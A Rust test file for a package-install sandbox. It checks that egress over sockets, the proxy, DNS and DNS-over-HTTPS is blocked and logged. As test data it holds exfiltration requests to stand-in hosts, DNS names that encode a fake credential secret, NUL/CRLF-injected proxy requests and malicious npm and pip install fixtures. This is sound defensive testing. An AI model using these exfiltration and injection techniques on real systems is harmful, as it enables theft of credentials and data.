@@ -1,0 +1,871 @@
+//! Egress from inside the sandbox: every way out a hostile script would try fails, is logged
+//! as exactly one `blocked` event naming the destination, and the "test host" it aimed at
+//! receives nothing; the registries the package manager's own configuration names still work
+//! through the proxy and are logged as `allowed` with `--log-allowed`.
+//!
+//! The test host (tests/common/netns.rs) is, as root, a network namespace of the test's own
+//! joined to the host by a veth pair (`10.213.N.2`, `fd00:213:N::2`), reachable from the host
+//! without the sandbox (checked before each test); for the unprivileged pass, which cannot
+//! create namespaces, it is a listener on the host's `127.0.0.1`, which the sandbox cannot
+//! reach either (its loopback is its own), and IPv6 targets `fd00:213::2`. The expected errno
+//! differs accordingly: `ENETUNREACH` for an address outside, `ECONNREFUSED` for the
+//! sandbox's own loopback where nothing listens.
+//!
+//! Attempts are made by `tests/fixtures/egress/probe.py` run directly (generic policy), by
+//! curl for DNS-over-HTTPS, by a real npm postinstall (`fixtures/egress/npm-exfil`) and by a
+//! real `setup.py` (`fixtures/egress/pip-exfil`). Public registries are never named: npm and
+//! pip are pointed at a local Verdaccio / pypiserver or install from the project.
+//!
+//! Names used for blocked attempts (`*.example.com`) are never resolved by anything outside
+//! the sandbox: the proxy refuses them before resolving. That is also why the TLS
+//! server-name test allows an IP literal (root) or `localhost` (unprivileged) rather than a
+//! name like `allowed.example.com`: allowing a public-looking name would make the supervisor
+//! resolve it with the host's resolver, i.e. send a DNS query off 127.0.0.0/8.
+
+mod common;
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use serde_json::Value;
+
+use common::netns::*;
+use common::servers::*;
+use common::*;
+
+const ENETUNREACH: i64 = 101;
+const ECONNREFUSED: i64 = 111;
+const EPERM: i64 = 1;
+/// DNS RCODE REFUSED.
+const REFUSED: i64 = 5;
+
+static RUNS: AtomicUsize = AtomicUsize::new(0);
+
+/// One sandboxed run: its output, its event log and (for probes) the probe's JSON.
+struct Run {
+    out: Output,
+    events: Vec<Value>,
+    log: PathBuf,
+    probe: Value,
+}
+
+impl Run {
+    fn context(&self) -> String {
+        format!(
+            "{}\n--- event log {} ---\n{}",
+            self.out.describe(),
+            self.log.display(),
+            show_events(&self.events)
+        )
+    }
+
+    /// Blocked egress events (connect, dns, proxy): what this file is about. Other blocked
+    /// events (dropped environment variables and the like) are other tests' business.
+    fn blocked_egress(&self) -> Vec<&Value> {
+        self.events
+            .iter()
+            .filter(|e| {
+                e["verdict"] == "blocked"
+                    && ["connect", "dns", "proxy"].contains(&e["action"].as_str().unwrap_or(""))
+            })
+            .collect()
+    }
+
+    /// Exactly one blocked egress event, and it is this one; returns it.
+    fn only_blocked(&self, action: &str, reason: &str, target: &str) -> &Value {
+        let all = self.blocked_egress();
+        let matching = events_for(&self.events, action, "blocked", reason, target);
+        assert!(
+            matching.len() == 1 && all.len() == 1,
+            "expected exactly one blocked egress event ({action}, {reason}, target {target}); \
+             found {} matching among {} blocked egress events\n{}",
+            matching.len(),
+            all.len(),
+            self.context()
+        );
+        matching[0]
+    }
+
+    /// Exactly one blocked event of this kind (others may exist); returns it.
+    fn one_blocked(&self, action: &str, reason: &str, target: &str) -> &Value {
+        let matching = events_for(&self.events, action, "blocked", reason, target);
+        assert!(
+            matching.len() == 1,
+            "expected exactly one blocked event ({action}, {reason}, target {target}); found {}\n{}",
+            matching.len(),
+            self.context()
+        );
+        matching[0]
+    }
+
+    fn assert_exit(&self, code: i32) {
+        assert_eq!(
+            self.out.code(),
+            code,
+            "unexpected exit status\n{}",
+            self.context()
+        );
+    }
+}
+
+/// `safe-install --log LOG FLAGS... --project P COMMAND...` in the world's project.
+fn sandboxed(world: &World, flags: &[String], command: &[&str]) -> Run {
+    let _g = shared_run_guard();
+    let n = RUNS.fetch_add(1, Ordering::Relaxed);
+    let log = world.log_path(&format!("egress-{n}"));
+    if !world.project.join("package.json").exists() {
+        write_file(
+            &world.project.join("package.json"),
+            "{ \"name\": \"si-egress-project\", \"version\": \"1.0.0\", \"private\": true }\n",
+        );
+    }
+    let mut cmd = world.safe_install();
+    cmd.arg("--log")
+        .arg(&log)
+        .args(flags)
+        .arg("--project")
+        .arg(&world.project)
+        .args(command);
+    let out = run(&mut cmd, RUN_TIMEOUT);
+    let events = read_log(&log);
+    let problems = check_event_schema(&events);
+    assert!(
+        problems.is_empty(),
+        "event log schema: {problems:?}\n{}",
+        out.describe()
+    );
+    Run {
+        out,
+        events,
+        log,
+        probe: Value::Null,
+    }
+}
+
+/// Runs `python3 probe.py ARGS...` in the sandbox; the command itself must exit 0.
+fn probe(world: &World, flags: &[String], args: &[&str]) -> Run {
+    let dest = world.project.join("probe.py");
+    if !dest.exists() {
+        fs::copy(fixtures().join("egress/probe.py"), &dest).expect("copy probe.py");
+    }
+    let mut command = vec!["/usr/bin/python3", "probe.py"];
+    command.extend_from_slice(args);
+    let mut r = sandboxed(world, flags, &command);
+    r.assert_exit(0);
+    let line = r.out.stdout.lines().last().unwrap_or("").to_string();
+    r.probe = serde_json::from_str(&line)
+        .unwrap_or_else(|e| panic!("probe.py printed no JSON ({e})\n{}", r.context()));
+    r
+}
+
+fn probe_ok(r: &Run) -> bool {
+    r.probe["ok"].as_bool().unwrap_or(true)
+}
+
+/// The errno a direct attempt at the test host gets: the namespace has no route to an
+/// outside address; the sandbox's own loopback has no listener.
+fn direct_errno(host: &TestHost) -> i64 {
+    if host.in_netns() {
+        ENETUNREACH
+    } else {
+        ECONNREFUSED
+    }
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// A name carrying data: the hex of a secret under `exfil.example.com`.
+fn exfil_name(world: &World, channel: &str) -> String {
+    let secret = format!("{}-{channel}", world.secret(".aws/credentials"));
+    let h = hex(secret.as_bytes());
+    // DNS labels hold at most 63 bytes.
+    let labels: Vec<&str> = h
+        .as_bytes()
+        .chunks(60)
+        .map(|c| std::str::from_utf8(c).expect("hex is ASCII"))
+        .collect();
+    format!("{}.exfil.example.com", labels.join("."))
+}
+
+fn sock(host: &str, port: u16) -> String {
+    if host.contains(':') {
+        format!("[{host}]:{port}")
+    } else {
+        format!("{host}:{port}")
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Direct sockets
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn direct_tcp_connect_to_the_test_host_fails_and_is_logged() {
+    let world = World::new("egress-tcp");
+    let host = TestHost::start(&world);
+    let target = sock(&host.v4.to_string(), host.tcp_port);
+    let r = probe(
+        &world,
+        &[],
+        &["tcp", &host.v4.to_string(), &host.tcp_port.to_string()],
+    );
+    assert!(!probe_ok(&r), "the connect succeeded\n{}", r.context());
+    assert_eq!(
+        r.probe["errno"].as_i64(),
+        Some(direct_errno(&host)),
+        "{}",
+        r.context()
+    );
+    let ev = r.only_blocked("connect", "direct-connect", &target);
+    assert!(
+        ev["argv"].to_string().contains("probe.py"),
+        "the event does not name the process: {ev}"
+    );
+    host.assert_nothing_received(&r.context());
+    host.assert_no_connection(&r.context());
+}
+
+#[test]
+fn udp_sendto_and_sendmsg_to_the_test_host_fail_and_are_logged() {
+    let world = World::new("egress-udp");
+    let host = TestHost::start(&world);
+    let target = sock(&host.v4.to_string(), host.udp_port);
+    for how in ["sendto", "sendmsg"] {
+        let r = probe(
+            &world,
+            &[],
+            &[how, &host.v4.to_string(), &host.udp_port.to_string()],
+        );
+        assert!(!probe_ok(&r), "{how} succeeded\n{}", r.context());
+        assert_eq!(
+            r.probe["errno"].as_i64(),
+            Some(direct_errno(&host)),
+            "{how}: {}",
+            r.context()
+        );
+        r.only_blocked("connect", "direct-connect", &target);
+        host.assert_nothing_received(&r.context());
+    }
+}
+
+#[test]
+fn ipv6_to_a_unique_local_address_fails_and_is_logged() {
+    let world = World::new("egress-ipv6");
+    let host = TestHost::start(&world);
+    let v6 = host.v6.to_string();
+    for (kind, port) in [("tcp", host.tcp_port), ("sendto", host.udp_port)] {
+        let r = probe(&world, &[], &[kind, &v6, &port.to_string()]);
+        assert!(!probe_ok(&r), "{kind} over IPv6 succeeded\n{}", r.context());
+        assert_eq!(
+            r.probe["errno"].as_i64(),
+            Some(ENETUNREACH),
+            "{kind}: {}",
+            r.context()
+        );
+        r.only_blocked("connect", "direct-connect", &sock(&v6, port));
+        host.assert_nothing_received(&r.context());
+    }
+    host.assert_no_connection("after the IPv6 attempts");
+}
+
+#[test]
+fn raw_socket_is_refused_with_eperm_and_logged() {
+    let world = World::new("egress-raw");
+    let host = TestHost::start(&world);
+    let r = probe(&world, &[], &["raw"]);
+    assert!(!probe_ok(&r), "a raw socket was created\n{}", r.context());
+    assert_eq!(r.probe["errno"].as_i64(), Some(EPERM), "{}", r.context());
+    let blocked = r.blocked_egress();
+    let raw: Vec<&Value> = blocked
+        .iter()
+        .copied()
+        .filter(|e| e["reason"] == "raw-socket")
+        .collect();
+    assert!(
+        raw.len() == 1 && blocked.len() == 1,
+        "expected exactly one raw-socket event and nothing else\n{}",
+        r.context()
+    );
+    assert_eq!(
+        raw[0]["target"],
+        "socket(family 2, type 3)",
+        "the raw-socket event names another socket\n{}",
+        r.context()
+    );
+    host.assert_nothing_received(&r.context());
+}
+
+// ---------------------------------------------------------------------------------------
+// The proxy
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn proxy_refuses_connect_and_forwarding_to_the_test_host() {
+    let world = World::new("egress-proxy");
+    let host = TestHost::start(&world);
+    let target = sock(&host.v4.to_string(), host.tcp_port);
+    let cases = [
+        (
+            format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"),
+            "ip-literal",
+            target.clone(),
+        ),
+        (
+            format!("GET http://{target}/exfil?d=SI-EXFIL HTTP/1.1\r\nHost: {target}\r\n\r\n"),
+            "ip-literal",
+            target.clone(),
+        ),
+        (
+            format!(
+                "CONNECT testhost.example.com:{p} HTTP/1.1\r\nHost: testhost.example.com:{p}\r\n\r\n",
+                p = host.tcp_port
+            ),
+            "egress-not-allowed",
+            format!("testhost.example.com:{}", host.tcp_port),
+        ),
+    ];
+    for (request, reason, target) in cases {
+        let r = probe(&world, &[], &["proxy-raw", &hex(request.as_bytes())]);
+        assert_eq!(
+            r.probe["status"].as_i64(),
+            Some(403),
+            "{request:?}\n{}",
+            r.context()
+        );
+        r.only_blocked("proxy", reason, &target);
+        host.assert_nothing_received(&r.context());
+        host.assert_no_connection(&r.context());
+    }
+}
+
+#[test]
+fn tls_naming_another_server_than_the_connect_host_is_refused() {
+    let world = World::new("egress-sni");
+    let host = TestHost::start(&world);
+    // An allowed destination that is the test host itself: the proxy dials it before it
+    // sees the ClientHello, so the listener may accept a connection, but no byte may reach it.
+    let authority = if host.in_netns() {
+        sock(&host.v4.to_string(), host.tcp_port)
+    } else {
+        format!("localhost:{}", host.tcp_port)
+    };
+    let flags = vec!["--allow-host".to_string(), authority.clone()];
+    let r = probe(&world, &flags, &["sni", &authority, "evil.example.com"]);
+    assert_eq!(
+        r.probe["status"].as_i64(),
+        Some(200),
+        "the proxy should accept the CONNECT to an allowed destination\n{}",
+        r.context()
+    );
+    assert!(
+        !probe_ok(&r),
+        "the TLS handshake with a mismatching server name went through\n{}",
+        r.context()
+    );
+    r.only_blocked("proxy", "sni-mismatch", &authority);
+    host.assert_nothing_received(&r.context());
+}
+
+#[test]
+fn nul_and_crlf_injected_requests_are_refused_as_malformed() {
+    let world = World::new("egress-malformed");
+    let host = TestHost::start(&world);
+    let t = sock(&host.v4.to_string(), host.tcp_port);
+    let cases = [
+        (
+            format!("CONNECT {t}\0.allowed.example.com:443 HTTP/1.1\r\n\r\n"),
+            format!("{t}\\u{{0}}.allowed.example.com:443"),
+        ),
+        (
+            format!("GET http://{t}/\r\nHost: evil.example/ HTTP/1.1\r\nHost: {t}\r\n\r\n"),
+            format!("http://{t}/\\r"),
+        ),
+        (
+            format!("CONNECT allowed.example.com\r:443 HTTP/1.1\r\nHost: {t}\r\n\r\n"),
+            "allowed.example.com\\r:443".to_string(),
+        ),
+        (
+            format!(
+                "GET http://localhost:{p}/ HTTP/1.1\r\nHost: {t}\r\n\r\n",
+                p = host.tcp_port
+            ),
+            format!("http://localhost:{}/", host.tcp_port),
+        ),
+    ];
+    for (request, target) in cases {
+        let r = probe(&world, &[], &["proxy-raw", &hex(request.as_bytes())]);
+        let status = r.probe["status"].as_i64().unwrap_or(0);
+        assert!(
+            (400..500).contains(&status),
+            "{request:?} was not refused with a 4xx\n{}",
+            r.context()
+        );
+        r.only_blocked("proxy", "malformed-request", &target);
+        host.assert_nothing_received(&r.context());
+        host.assert_no_connection(&r.context());
+    }
+}
+
+#[test]
+fn ip_literals_in_decimal_and_hex_are_refused() {
+    let world = World::new("egress-ipliteral");
+    let host = TestHost::start(&world);
+    let n = u32::from(host.v4);
+    let p = host.tcp_port;
+    let shown = sock(&host.v4.to_string(), p);
+    let cases = [
+        (format!("{n}:{p}"), shown.clone()),
+        (format!("{n:#010x}:{p}"), shown.clone()),
+        ("2130706433".to_string(), "127.0.0.1:80".to_string()),
+        ("0x7f000001".to_string(), "127.0.0.1:80".to_string()),
+    ];
+    for (authority, target) in cases {
+        let request = format!("GET http://{authority}/ HTTP/1.1\r\nHost: {authority}\r\n\r\n");
+        let r = probe(&world, &[], &["proxy-raw", &hex(request.as_bytes())]);
+        assert_eq!(
+            r.probe["status"].as_i64(),
+            Some(403),
+            "http://{authority}/ was not refused\n{}",
+            r.context()
+        );
+        r.only_blocked("proxy", "ip-literal", &target);
+        host.assert_nothing_received(&r.context());
+        host.assert_no_connection(&r.context());
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// DNS
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn dns_queries_carrying_data_are_refused_at_once_and_logged() {
+    let world = World::new("egress-dns");
+    let host = TestHost::start(&world);
+    for kind in ["dns-udp", "dns-tcp", "getaddrinfo"] {
+        let name = exfil_name(&world, kind);
+        let r = probe(&world, &[], &[kind, &name]);
+        assert!(!probe_ok(&r), "{kind}: {name} resolved\n{}", r.context());
+        if kind != "getaddrinfo" {
+            assert_eq!(
+                r.probe["rcode"].as_i64(),
+                Some(REFUSED),
+                "{kind}: {}",
+                r.context()
+            );
+        }
+        let elapsed = r.probe["elapsed"].as_f64().unwrap_or(99.0);
+        assert!(
+            elapsed < 1.0 && r.out.elapsed < Duration::from_secs(5),
+            "{kind}: the answer took {elapsed:.2}s, the run {:.1}s: a resolver timeout\n{}",
+            r.out.elapsed.as_secs_f64(),
+            r.context()
+        );
+        r.only_blocked("dns", "dns-query", &name);
+        host.assert_nothing_received(&r.context());
+    }
+}
+
+#[test]
+fn dns_over_https_to_a_host_not_allowed_is_refused() {
+    let world = World::new("egress-doh");
+    let host = TestHost::start(&world);
+    require_program("/usr/bin/curl", "apt-get install curl (scripts/setup.sh)");
+    // A DNS query for the exfiltration name, base64url as RFC 8484 wants it.
+    let query = "q80BAAABAAAAAAAABWV4ZmlsB2V4YW1wbGUDY29tAAABAAE";
+    let script = format!(
+        "curl -sS -o /dev/null -w '%{{http_connect}}\\n' 'https://doh.example.com/dns-query?dns={query}'; echo \"curl=$?\""
+    );
+    let r = sandboxed(&world, &[], &["sh", "-c", &script]);
+    r.assert_exit(0);
+    assert!(
+        r.out.stdout.contains("403") && r.out.stdout.contains("curl=56"),
+        "curl's CONNECT was not answered 403\n{}",
+        r.context()
+    );
+    r.only_blocked("proxy", "egress-not-allowed", "doh.example.com:443");
+    host.assert_nothing_received(&r.context());
+}
+
+// ---------------------------------------------------------------------------------------
+// Real installs that attack
+// ---------------------------------------------------------------------------------------
+
+fn egress_target(world: &World, host: &TestHost, channel: &str) -> Value {
+    serde_json::json!({
+        "host": host.v4.to_string(),
+        "tcp_port": host.tcp_port,
+        "udp_port": host.udp_port,
+        "dns_name": exfil_name(world, channel),
+        "token": world.token,
+        "project": world.project,
+    })
+}
+
+fn read_report(world: &World, name: &str, r: &Run) -> Value {
+    let path = world.project.join(name);
+    let text = fs::read_to_string(&path).unwrap_or_else(|e| {
+        panic!(
+            "the fixture wrote no report at {} ({e}): its script did not run\n{}",
+            path.display(),
+            r.context()
+        )
+    });
+    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{} is not JSON ({e}): {text}", name))
+}
+
+#[test]
+fn npm_postinstall_exfiltration_over_tcp_udp_and_dns_is_blocked() {
+    require_npm();
+    let world = World::new("egress-npm");
+    let host = TestHost::start(&world);
+    let staging = world.root().join("staging/npm-exfil");
+    copy_dir(&fixtures().join("egress/npm-exfil"), &staging);
+    let cfg = egress_target(&world, &host, "npm");
+    write_file(
+        &staging.join("egress-target.json"),
+        &serde_json::to_string_pretty(&cfg).expect("json"),
+    );
+    let tarball = pack(&world, &staging);
+    write_npm_project(&world, &[&tarball]);
+    let r = sandboxed(&world, &[], NPM_CI);
+    r.assert_exit(0);
+    let report = read_report(&world, "egress-report-npm.json", &r);
+    for channel in ["tcp", "udp", "dns"] {
+        assert_eq!(
+            report[channel]["ok"],
+            false,
+            "{channel} got out: {report}\n{}",
+            r.context()
+        );
+    }
+    // Per-package attribution (`package`/`script`) belongs to the observation layer that is
+    // not there yet (see tests/common/attacks.rs, "issue 4"); the process is named by argv.
+    for (port, what) in [(host.tcp_port, "tcp"), (host.udp_port, "udp")] {
+        let target = sock(&host.v4.to_string(), port);
+        let ev = r.one_blocked("connect", "direct-connect", &target);
+        assert!(
+            ev["argv"].to_string().contains("exfil.js"),
+            "the {what} event does not name the postinstall's process: {ev}"
+        );
+    }
+    r.one_blocked("dns", "dns-query", cfg["dns_name"].as_str().expect("name"));
+    assert_eq!(
+        r.blocked_egress().len(),
+        3,
+        "other blocked egress events than the three attempts\n{}",
+        r.context()
+    );
+    assert!(
+        report["dns"]["elapsed"].as_f64().unwrap_or(99.0) < 1.0,
+        "the lookup waited for a timeout: {report}"
+    );
+    host.assert_nothing_received(&r.context());
+    host.assert_no_connection(&r.context());
+}
+
+#[test]
+fn setup_py_exfiltration_over_tcp_udp_and_dns_is_blocked() {
+    let world = World::new("egress-pip");
+    let host = TestHost::start(&world);
+    let venv = make_venv(&world);
+    let dest = world.project.join("vendor/si-egress-exfil");
+    copy_dir(&fixtures().join("egress/pip-exfil"), &dest);
+    let cfg = egress_target(&world, &host, "pip");
+    write_file(
+        &dest.join("egress-target.json"),
+        &serde_json::to_string_pretty(&cfg).expect("json"),
+    );
+    let args = pip_install_args(&venv, "si-egress-exfil");
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let r = sandboxed(&world, &[], &args);
+    r.assert_exit(0);
+    let report = read_report(&world, "egress-report-pip.json", &r);
+    for channel in ["tcp", "udp", "dns"] {
+        assert_eq!(
+            report[channel]["ok"],
+            false,
+            "{channel} got out: {report}\n{}",
+            r.context()
+        );
+    }
+    assert_eq!(report["tcp"]["errno"].as_i64(), Some(direct_errno(&host)));
+    assert_eq!(report["udp"]["errno"].as_i64(), Some(direct_errno(&host)));
+    for port in [host.tcp_port, host.udp_port] {
+        r.one_blocked(
+            "connect",
+            "direct-connect",
+            &sock(&host.v4.to_string(), port),
+        );
+    }
+    r.one_blocked("dns", "dns-query", cfg["dns_name"].as_str().expect("name"));
+    assert_eq!(
+        r.blocked_egress().len(),
+        3,
+        "other blocked egress events than the three attempts\n{}",
+        r.context()
+    );
+    assert!(
+        report["dns"]["elapsed"].as_f64().unwrap_or(99.0) < 1.0,
+        "the lookup waited for a timeout: {report}"
+    );
+    host.assert_nothing_received(&r.context());
+    host.assert_no_connection(&r.context());
+}
+
+/// `npm pack` of a staged fixture directory into the world's tarball directory.
+fn pack(world: &World, staging: &Path) -> PathBuf {
+    let out = run(
+        world
+            .setup_command("npm")
+            .args(["pack", "--ignore-scripts", "--json", "--pack-destination"])
+            .arg(&world.tarballs)
+            .current_dir(staging),
+        RUN_TIMEOUT,
+    );
+    out.assert_success();
+    let json: Value = serde_json::from_str(&out.stdout)
+        .unwrap_or_else(|e| panic!("npm pack --json printed no JSON ({e}): {}", out.describe()));
+    let file = json[0]["filename"].as_str().expect("npm pack filename");
+    // Scoped packages pack as scope-name-version.tgz.
+    let path = world
+        .tarballs
+        .join(file.trim_start_matches('@').replace('/', "-"));
+    assert!(path.is_file(), "npm pack did not write {}", path.display());
+    path
+}
+
+// ---------------------------------------------------------------------------------------
+// Allowed: the registries npm's and pip's own configuration name
+// ---------------------------------------------------------------------------------------
+
+/// Publishes a packed tarball to a registry on 127.0.0.1:`port` with `token`.
+fn publish(world: &World, tarball: &Path, port: u16, token: &str, registry_log: &str) {
+    write_file(
+        &world.setup_home.join(".npmrc"),
+        &format!("//127.0.0.1:{port}/:_authToken={token}\n"),
+    );
+    let out = run(
+        world
+            .setup_command("npm")
+            .arg("publish")
+            .arg(tarball)
+            .args(["--registry", &format!("http://127.0.0.1:{port}/")]),
+        RUN_TIMEOUT,
+    );
+    assert!(
+        out.status.success(),
+        "{}\n--- registry ---\n{registry_log}",
+        out.describe()
+    );
+    fs::remove_file(world.setup_home.join(".npmrc")).expect("remove the publish token");
+}
+
+/// Removes what a bare install left, so that `npm ci` in the sandbox does the work.
+fn reset_install(world: &World) {
+    let _ = fs::remove_dir_all(world.project.join("node_modules"));
+}
+
+fn allowed_registry_events<'a>(r: &'a Run, port: u16) -> Vec<&'a Value> {
+    events_for(
+        &r.events,
+        "proxy",
+        "allowed",
+        "registry-request",
+        &format!("127.0.0.1:{port}"),
+    )
+}
+
+#[test]
+fn npm_ci_from_a_local_verdaccio_goes_through_the_proxy() {
+    require_npm();
+    let world = World::new("egress-verdaccio");
+    let host = TestHost::start(&world);
+    let server = start_verdaccio(&world.root().join("verdaccio"));
+    let token = verdaccio_add_user(&server, "si-tester", "si-tester-password");
+    let tarball = pack_npm_fixture(&world, "benign");
+    publish(&world, &tarball, server.port, &token, &server.log());
+    fs::remove_file(&tarball).expect("remove the tarball: the registry is the source");
+    write_file(
+        &world.project.join(".npmrc"),
+        &format!("registry={}\n", server.url),
+    );
+    write_file(
+        &world.project.join("package.json"),
+        "{ \"name\": \"si-egress-consumer\", \"version\": \"1.0.0\", \"private\": true,\n  \"dependencies\": { \"si-benign\": \"1.0.0\" } }\n",
+    );
+    run(
+        world
+            .setup_command("npm")
+            .args(["install", "--no-audit", "--no-fund"]),
+        RUN_TIMEOUT,
+    )
+    .assert_success();
+    let lock = fs::read_to_string(world.project.join("package-lock.json")).expect("lockfile");
+    assert!(
+        lock.contains(&format!("127.0.0.1:{}", server.port)),
+        "the lockfile does not point at the local registry:\n{lock}"
+    );
+    reset_install(&world);
+    let r = sandboxed(&world, &["--log-allowed".to_string()], NPM_CI);
+    assert!(
+        r.out.status.success(),
+        "{}\n--- verdaccio ---\n{}",
+        r.context(),
+        server.log()
+    );
+    assert!(
+        world
+            .project
+            .join("node_modules/si-benign/build/artefact.txt")
+            .is_file(),
+        "si-benign was not installed (or its postinstall did not run)\n{}",
+        r.context()
+    );
+    assert!(
+        !allowed_registry_events(&r, server.port).is_empty(),
+        "no proxy/allowed/registry-request event for 127.0.0.1:{}\n{}",
+        server.port,
+        r.context()
+    );
+    assert!(
+        r.blocked_egress().is_empty(),
+        "a clean install from the configured registry was blocked somewhere\n{}",
+        r.context()
+    );
+    host.assert_nothing_received(&r.context());
+}
+
+#[test]
+fn pip_install_from_a_local_pypiserver_goes_through_the_proxy() {
+    let world = World::new("egress-pypiserver");
+    let host = TestHost::start(&world);
+    let venv = make_venv(&world);
+    let packages = world.root().join("packages");
+    fs::create_dir_all(&packages).expect("mkdir packages");
+    run(
+        world
+            .setup_command("/usr/bin/python3")
+            .arg(fixtures().join("pip/make_wheel.py"))
+            .arg(&packages)
+            .args(["si-wheel", "1.0.0"]),
+        RUN_TIMEOUT,
+    )
+    .assert_success();
+    let server = start_pypiserver(world.root(), &packages);
+    let pip = venv.join("bin/pip").display().to_string();
+    let r = sandboxed(
+        &world,
+        &["--log-allowed".to_string()],
+        &[
+            &pip,
+            "install",
+            "--no-cache-dir",
+            "--index-url",
+            &server.url,
+            "si-wheel==1.0.0",
+        ],
+    );
+    assert!(
+        r.out.status.success(),
+        "{}\n--- pypiserver ---\n{}",
+        r.context(),
+        server.log()
+    );
+    let installed = fs::read_dir(site_packages(&venv))
+        .expect("site-packages")
+        .filter_map(Result::ok)
+        .any(|e| e.file_name().to_string_lossy().starts_with("si_wheel"));
+    assert!(installed, "si-wheel is not in the venv\n{}", r.context());
+    assert!(
+        !allowed_registry_events(&r, server.port).is_empty(),
+        "no proxy/allowed/registry-request event for 127.0.0.1:{}\n{}",
+        server.port,
+        r.context()
+    );
+    assert!(
+        r.blocked_egress().is_empty(),
+        "a clean install from the configured index was blocked somewhere\n{}",
+        r.context()
+    );
+    host.assert_nothing_received(&r.context());
+}
+
+#[test]
+fn scoped_registry_with_a_token_in_the_project_npmrc_installs_through_the_proxy() {
+    require_npm();
+    let world = World::new("egress-scoped");
+    let host = TestHost::start(&world);
+    let scope = "@si-private";
+    let server = start_verdaccio_private_scope(&world.root().join("verdaccio"), scope);
+    let token = verdaccio_add_user_at(server.port, "si-tester", "si-tester-password");
+    let staging = world.root().join("staging/npm-scoped");
+    copy_dir(&fixtures().join("egress/npm-scoped"), &staging);
+    let tarball = pack(&world, &staging);
+    publish(&world, &tarball, server.port, &token, &server.log());
+    fs::remove_file(&tarball).expect("remove the tarball: the registry is the source");
+    // The registry really wants the token for this scope.
+    let (status, _) = http(server.port, "GET", "/@si-private%2fscoped-pkg", &[], b"")
+        .expect("GET the package without a token");
+    assert!(
+        status == 401 || status == 403,
+        "Verdaccio serves {scope} without a token (HTTP {status}); the test would prove nothing"
+    );
+    write_file(
+        &world.project.join(".npmrc"),
+        &format!(
+            "{scope}:registry={url}\n//127.0.0.1:{port}/:_authToken={token}\n",
+            url = server.url,
+            port = server.port
+        ),
+    );
+    write_file(
+        &world.project.join("package.json"),
+        "{ \"name\": \"si-egress-scoped-consumer\", \"version\": \"1.0.0\", \"private\": true,\n  \"dependencies\": { \"@si-private/scoped-pkg\": \"1.0.0\" } }\n",
+    );
+    run(
+        world
+            .setup_command("npm")
+            .args(["install", "--no-audit", "--no-fund"]),
+        RUN_TIMEOUT,
+    )
+    .assert_success();
+    reset_install(&world);
+    let r = sandboxed(&world, &["--log-allowed".to_string()], NPM_CI);
+    assert!(
+        r.out.status.success(),
+        "{}\n--- verdaccio ---\n{}",
+        r.context(),
+        server.log()
+    );
+    assert!(
+        world
+            .project
+            .join("node_modules/@si-private/scoped-pkg/index.js")
+            .is_file(),
+        "the scoped package was not installed\n{}",
+        r.context()
+    );
+    assert!(
+        !allowed_registry_events(&r, server.port).is_empty(),
+        "no proxy/allowed/registry-request event for 127.0.0.1:{}\n{}",
+        server.port,
+        r.context()
+    );
+    assert!(
+        r.blocked_egress().is_empty(),
+        "the scoped install was blocked somewhere\n{}",
+        r.context()
+    );
+    let log_text = fs::read_to_string(&r.log).unwrap_or_default();
+    assert!(
+        !log_text.contains(&token) && !r.out.stderr.contains(&token),
+        "the registry token appears in the event log or on stderr\n{}",
+        r.context()
+    );
+    host.assert_nothing_received(&r.context());
+}
